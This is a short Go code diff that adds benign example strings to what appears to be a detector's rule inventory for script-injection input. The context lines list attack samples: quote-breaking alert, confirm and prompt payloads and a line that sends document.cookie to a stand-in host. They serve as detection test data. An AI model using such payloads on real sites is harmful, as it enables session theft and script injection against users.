@@ -140,7 +140,7 @@ var ruleInventory = []RuleInfo{
 			"print()", "';print()//", "document.cookie", "new Image().src='//x.example/?c='+document.cookie",
 			"x'; alert(1)//", "');\u2028confirm(1)//", "\";void\fconfirm(2)//", "';prompt (1)//", "x' -\tconfirm\t(1)- '"},
 		Benign: []string{"I'll alert the team (tomorrow)", "$(document).ready(init)", "Use `alert()` to show a dialog.",
-			"x = setTimeout(cb, 10)", "init(); setTimeout(run, 5)", "Note: confirm(it) by Friday", "it's done; alert (the team) later",
+			"x = setTimeout(cb, 10)", "init(); setTimeout(run, 5)", "The utility function `duplexPair` returns a pair", "Note, import `github.com/x/semver/v3` to use it", "Note: confirm(it) by Friday", "it's done; alert (the team) later",
 			"Prompt (a) is optional",
 			"call me (later), apply within", "Reflect.apply is in the MDN docs", "window['title'] and document['body'] are properties",
 			"import('./chart.js').then(draw)", "use setTimeout(render, 100) to defer", "the function(x) returns x", "(1, 2)", "top[5] products",
